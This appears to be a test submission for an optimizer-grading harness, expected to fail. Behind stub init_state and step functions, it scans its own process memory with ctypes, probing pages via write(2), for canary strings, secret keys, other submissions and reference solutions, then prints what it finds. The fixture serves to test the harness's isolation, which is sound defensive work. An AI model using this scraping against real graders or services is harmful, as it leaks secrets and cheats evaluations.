# category: other-submissions
# expect: not-passed
# expect-outcome: completed
# Everything the process inherited is in its own memory: scans it (probing pages safely with
# write(2), which fails with EFAULT instead of crashing) for what earlier submissions, the server's
# secrets or the reference solutions left behind, and prints every hit.
import ctypes
import gc
import os

libc = ctypes.CDLL(None)
libc.sbrk.restype = ctypes.c_void_p
probe_read, probe_write = os.pipe()
PAGE = 4096
# Built at run time so that the needles are not themselves constants in this module's memory.
needles = [
    "".join(parts).encode()
    for parts in (
        ["DESCENT_", "CANARY"],
        ["descent-canary-", "file"],
        ["SECRET", "_KEY="],
        ["victim-", "submission-", "tail"],
    )
]


def readable(address):
    if libc.write(probe_write, ctypes.c_void_p(address), ctypes.c_size_t(1)) == 1:
        os.read(probe_read, 1)
        return True
    return False


regions = {id(obj) & ~0xFFFFF for obj in gc.get_objects()}
heap_end = libc.sbrk(0)
regions |= {(heap_end - k * 0x100000) & ~0xFFFFF for k in range(256)}
hits = set()
for base in sorted(regions):
    for page in range(base, base + 0x100000, PAGE):
        if not readable(page):
            continue
        data = ctypes.string_at(page, PAGE)
        for needle in needles:
            at = data.find(needle)
            # A needle followed by its own NUL terminator is this module's copy: skip it.
            if at >= 0 and data[at + len(needle) : at + len(needle) + 1] not in (b"\0", b""):
                hits.add(data[at : at + 80])
print("found in memory:", sorted(hits), flush=True)


def init_state(params):
    return {}


def step(params, grads, state, *, lr):
    return params, state
